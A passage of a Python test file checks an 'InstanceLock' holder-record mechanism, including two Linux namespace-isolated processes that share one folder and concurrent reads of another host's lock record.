lock = InstanceLock(Path(sys.argv[1]), "42:x")
holder = lock.holder()
held = lock.acquire()
lock.check()  # completes the record
print(holder and holder.host, held, flush=True)
sys.stdin.read()
"""


@root_only
@linux_only
@pytest.mark.parametrize("other", ["same-name", "other-name"])
def test_two_containers_with_one_folder_see_each_other_by_the_lock_file(tmp_path: Path, other: str) -> None:
    """Neither sees the other's processes, sockets or locks."""
    contained = ["unshare", "--pid", "--net", "--uts", "--fork", "--kill-child", "--mount-proc"]
    if subprocess.run([*contained, "true"], capture_output=True, check=False).returncode:
        pytest.skip("needs namespaces")

    def start_as(host: str) -> subprocess.Popen[str]:
        return subprocess.Popen(
            [*contained, sys.executable, "-c", IN_A_CONTAINER, str(tmp_path), host],
            env=os.environ | {"PYTHONPATH": str(ROOT)},
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            encoding="utf-8",
        )

    with start_as("same-name") as first:
        assert first.stdout is not None
        assert first.stdout.readline() == "None True\n"
        assert start_as(other).communicate()[0] == "same-name False\n"
        first.kill()
    assert start_as(other).communicate()[0].endswith(" True\n")


def test_a_look_at_a_strangers_record_makes_no_start_fail(tmp_path: Path, bot_id: int) -> None:
    """Such a look tries the lock file for an instant."""
    record, stop = tmp_path / "holder.json", threading.Event()

    def ask() -> None:
        while not stop.is_set():
            if not record.exists():
                record.write_text(json.dumps({"pid": 1, "host": "another-host"}), encoding="utf-8")
            InstanceLock(tmp_path, token_of(bot_id), machine_wide=False).holder()

    thread = threading.Thread(target=ask)
    thread.start()
    try:
        for _ in range(50):
            with InstanceLock(tmp_path, token_of(bot_id), machine_wide=False):
                pass
    finally:
        stop.set()
        thread.join()
